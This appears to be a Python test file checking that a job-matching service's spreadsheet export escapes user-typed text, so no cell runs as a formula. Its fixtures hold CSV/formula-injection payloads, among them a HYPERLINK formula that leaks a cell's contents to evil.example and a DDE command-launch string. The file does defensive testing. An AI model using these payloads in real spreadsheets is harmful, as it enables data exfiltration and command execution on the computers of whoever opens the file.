"""The demand-list workbook: text typed by others is shown as text, never run as a formula, and never breaks it."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from typing import Any

from openpyxl import load_workbook

from services.matching.candidates.xlsx import demand_list
from services.matching.ranking.model import PostingView
from shared.spreadsheet import neutral

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点这里")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def posting(**changes: Any) -> PostingView:
    fields: dict[str, Any] = dict(id="p1", employer_id="e1", employer_name="=cmd|' /C calc'!A0", title=HOSTILE[0],
                  occupation="家政服务员", occupation_code=None, region_code="110106", lon=116.3, lat=39.9,
                  wage_min=5000, wage_max=6500, headcount=2, valid_until=date(2027, 3, 31))
    fields.update(changes)
    return PostingView(**fields)


def candidate(**changes) -> dict:
    found = {"worker_id": "w1", "age": 40, "gender": "female", "home_region_name": "科右中旗", "labor_capacity": "full",
             "skills": HOSTILE[1:], "desired_occupations": ["@保洁", "保洁\u0001员"], "distance_km": 612.4,
             "score": 0.87, "reasons": ["-技能相符"]}
    found.update(changes)
    return found


def test_no_cell_of_the_demand_list_is_a_formula():
    data = demand_list([(posting(), [candidate()])], title="=1+1 丰台区")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert not [cell.value for cell in texts if cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sheet["A1"].value == "'=1+1 丰台区"
    assert sheet["A3"].value == "'" + HOSTILE[0]
    assert sheet["B3"].value == "'=cmd|' /C calc'!A0"
    assert sheet["K3"].value == "'@保洁、保洁员"  # the control character dropped, the export not failed
    assert sheet["F3"].value == 40 and sheet["L3"].value == 612.4  # numbers stay numbers


def test_ordinary_text_is_unchanged():
    assert neutral("家政服务员") == "家政服务员"
    assert neutral("5000-6500") == "5000-6500"
    assert neutral("-") == "'-"
